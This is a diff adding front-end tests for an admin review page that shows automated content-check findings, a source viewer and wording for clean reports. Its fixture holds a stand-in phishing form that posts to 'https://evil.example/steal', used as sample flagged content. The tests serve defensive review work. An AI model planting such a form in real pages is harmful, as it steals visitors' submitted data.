@@ -61,6 +61,71 @@ describe('review detail page', () => {
     expect(screen.getByRole('figure', { name: /最近 30 天访问量/ })).toBeInTheDocument();
   });
 
+  it('opens a finding’s file at its line, and lists usability findings apart with how to fix them', async () => {
+    const lines = Array.from({ length: 20 }, (_, i) => `<p>第 ${i + 3} 行</p>`);
+    lines[9] = '<form method="post" action="https://evil.example/steal">';
+    const { user, api } = await openDetail({
+      'GET /admin/projects/7/source': ok({
+        path: 'index.html',
+        version: 1,
+        first_line: 3,
+        lines,
+        truncated: false,
+      }),
+    });
+    // The excerpt is in the table already; the location opens the file.
+    expect(
+      await screen.findByText('<form method="post" action="https://evil.example/steal">'),
+    ).toBeInTheDocument();
+    await user.click(await screen.findByRole('button', { name: 'index.html:12' }));
+    const dialog = await screen.findByRole('dialog');
+    const file = await within(dialog).findByLabelText('index.html:12 文件内容');
+    expect(file).toHaveTextContent('3<p>第 3 行</p>');
+    const current = file.querySelector('.finding-source__line--current');
+    expect(current).toHaveTextContent('12<form method="post" action="https://evil.example/steal">');
+    expect(api.calls('GET /admin/projects/7/source')[0]?.params).toEqual({ path: 'index.html', line: 12 });
+    // The usability finding is not in the risk table but in its own list, with its fix.
+    expect(screen.getByRole('heading', { name: '可用性问题（1）' })).toBeInTheDocument();
+    expect(screen.getByText(/修改方法：压缩图片和视频/)).toBeInTheDocument();
+    const table = document.querySelector('.check-findings')!;
+    expect(table.textContent).not.toContain('文件较大');
+  });
+
+  it('shows the excerpt and the reason when the file can’t be opened', async () => {
+    const { user } = await openDetail({
+      'GET /admin/projects/7/source': fail(404, '该版本中没有这个文件'),
+    });
+    await user.click(await screen.findByRole('button', { name: 'index.html:12' }));
+    const dialog = await screen.findByRole('dialog');
+    expect(await within(dialog).findByText('该版本中没有这个文件')).toBeInTheDocument();
+    expect(within(dialog).getByLabelText('index.html:12 摘录')).toHaveTextContent(
+      '12<form method="post" action="https://evil.example/steal">',
+    );
+  });
+
+  it('never says “no problems” in green: a report without risk findings says what the check covers', async () => {
+    const base = makeDetail();
+    const check = base.content_check!;
+    await openDetail({
+      'GET /admin/projects/7': ok({
+        ...base,
+        content_check: {
+          ...check,
+          level: 'clean',
+          counts: { high: 0, medium: 0, low: 0, info: 0 },
+          findings: check.findings.filter((f) => f.category === 'usability'),
+        },
+      }),
+    });
+    expect((await screen.findAllByText('自动检查未发现已知风险')).length).toBeGreaterThan(0);
+    expect(screen.getByText('自动检查涵盖')).toBeInTheDocument();
+    expect(screen.getByText('不涵盖')).toBeInTheDocument();
+    expect(screen.getByText(/图片、视频中的文字与内容/)).toBeInTheDocument();
+    expect(screen.queryByText('自动检查未发现问题')).toBeNull();
+    expect(screen.queryByText('未发现问题')).toBeNull();
+    expect(document.querySelector('.check-clean.ant-alert-success')).toBeNull();
+  });
+
   it('asks for a decision before submitting: 请选择审核状态', async () => {
     const { api, user } = await openDetail();
     await user.click(await screen.findByRole('button', { name: '提交审核' }));
